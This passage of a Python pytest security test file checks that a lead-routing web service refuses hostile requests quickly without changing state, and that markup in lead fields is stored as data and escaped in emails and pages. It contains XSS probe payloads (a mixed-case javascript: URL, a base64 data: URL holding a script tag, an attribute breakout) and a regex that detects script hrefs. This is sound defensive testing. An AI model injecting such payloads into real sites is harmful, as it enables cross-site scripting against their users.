        (API, "POST", "/openapi.json"),
        (API, "DELETE", "/leads/{lead}"),
        (QUALIFY, "GET", "/webhooks/generic"),
        (DISPOSITION, "GET", "/leads/{lead}/disposition"),
        (DISPOSITION, "DELETE", "/d/x"),
    ]:
        case_id = f"route-{method.lower()}-{path.strip('/').replace('/', '-').replace('{lead}', 'lead')}"
        case = Case(method, path, status=(404, 405), says=("no such route", "not"), function=function)
        yield param(case_id, case)


CORPUS = [
    *json_syntax(),
    *numbers(),
    *wrong_types(),
    *sizes(),
    *xml_attacks(),
    *invalid_utf8(),
    *headers_and_content_types(),
    *bad_auth(),
    *link_tokens(),
    *disposition_api(),
    *lead_listing(),
    *unrouted(),
]


# --- the tests -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stack(shared_aws: Aws, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Aws]:
    """One stack for the corpus: a refused request changes nothing, and each case proves that
    with a snapshot, so the next case finds the stack as it was. The SLA is long enough that the
    parked lead stays quiet for the whole module."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        calm = {"hot = 2\n": "hot = 3600\n", "warm = 30\n": "warm = 3600\n"}
        use_config(monkeypatch, tmp_path_factory.mktemp("calm") / "calm.toml", **calm)
        shared_aws.put_reps(rep("r1", capacity=1000), rep("r2", capacity=0))
        # Import every HTTP function now, so a cold import is not timed as the first request.
        for spec in (QUALIFY, API, DISPOSITION):
            lambdas.load_handler(spec)
        yield shared_aws


@pytest.fixture(scope="module")
def parked_lead(stack: Aws) -> str:
    """A hot lead routed to r1, briefed, and parked waiting for its first touch."""
    status, body = stack.post_lead(LEAD)
    assert status == 202, body
    stack.wait_for_event(body["lead_id"], "waiting")
    return str(body["lead_id"])


@pytest.mark.parametrize("case", CORPUS)
def test_hostile_request_is_refused_fast_and_writes_nothing(
    stack: Aws, case: Case, request: pytest.FixtureRequest
) -> None:
    ctx = Ctx(request.getfixturevalue("parked_lead")) if case.needs_lead else Ctx()
    before = snapshot(stack, ctx.lead_id)
    answer = send(case, ctx)
    assert answer.status < 500, f"{answer.status} {answer.text[:300]}"
    assert answer.seconds < HANG_SECONDS
    assert_clear_refusal(case, answer)
    assert snapshot(stack, ctx.lead_id) == before


# Markup in every text field of a canonical lead. A signed lead carrying it may be
# accepted: text is data, stored as sent and escaped wherever it is shown.
MARKUP_TEXT_FIELDS = (
    "contact.first_name",
    "contact.last_name",
    "contact.title",
    "contact.department",
    "company.name",
    "trigger.name",
    "activities.0.title",
    "source",
    "contact.notes",  # an unknown field, kept as an extra
)
MARKUP = [
    *(pytest.param(d, SCRIPT, id=f"markup-script-{d}") for d in MARKUP_TEXT_FIELDS),
    *(
        pytest.param(d, JS_URL, id=f"markup-js-url-{d}")
        for d in ("trigger.url", "activities.0.url", "crm.record_url")
    ),
    pytest.param("trigger.url", "JaVaScRiPt:alert(1)", id="markup-js-url-mixed-case-trigger.url"),
    pytest.param(
        "trigger.url",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        id="markup-data-url-trigger.url",
    ),
    pytest.param(
        "crm.record_url", f'https://crm.example/">{SCRIPT}', id="markup-attribute-breakout-crm.record_url"
    ),
]
JS_HREF = re.compile(r"""href\s*=\s*["']?\s*(javascript|data|vbscript):""", re.IGNORECASE)


def html_parts(aws: Aws, since: int) -> list[str]:
    """The HTML of every email sent after the first ``since``."""
    parts = []
    for sent in aws.sent_emails()[since:]:
        message = email.message_from_string(sent.raw_data, policy=email.policy.default)
        parts += [p.get_content() for p in message.walk() if p.get_content_type() == "text/html"]
    return parts


@pytest.mark.parametrize(("dotted", "payload"), MARKUP)
def test_markup_in_lead_text_is_stored_as_data_and_escaped_on_output(
    stack: Aws, dotted: str, payload: str
) -> None:
    # Its own event and contact: the module's stack holds the other cases' leads too.
    case_key = hashlib.sha256(f"{dotted}\x1f{payload}".encode()).hexdigest()[:12]
    lead = lead_with(dotted, payload) | {"event_id": f"markup-{case_key}"}
    lead["contact"] = lead["contact"] | {"email": f"markup-{case_key}@example.com"}
    case = Case("POST", "/webhooks/generic", dumps(lead), generic_signed, status=400)
    leads_before, emails_before = stack.leads_count(), len(stack.sent_emails())
    answer = send(case, Ctx())
    assert answer.status < 500, answer.text[:300]
    assert answer.seconds < HANG_SECONDS
    if answer.status >= 400:  # refusing markup is allowed too, as long as it is a clear refusal
        assert_clear_refusal(case, answer)
        assert stack.leads_count() == leads_before
        return
    lead_id = json.loads(answer.text)["lead_id"]
    stored = stack.get_lead(lead_id)
    if dotted == "crm.record_url":  # a link off the CRM's own hosts is dropped, never stored
        assert "record_url" not in stored["crm"]
    else:
        assert dig(stored, dotted) == payload  # stored as sent, not stripped or run
    if answer.status == 202:
        stack.wait_for_event(lead_id, "waiting")
        assert html_parts(stack, emails_before), "a routed lead gets a brief"
    for html in html_parts(stack, emails_before):
        assert SCRIPT not in html and "<script" not in html.lower()
        assert not JS_HREF.search(html), "a script URL must never become a link"
        if SCRIPT in payload and "alert(1)" in html:
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, escaped
    if answer.status == 202:
        token = stack.brief_links("r1@example.com")["Connected"]
        page = send(Case("GET", f"/d/{token}"), Ctx(lead_id))
        assert page.status == 200 and "<script" not in page.text.lower()
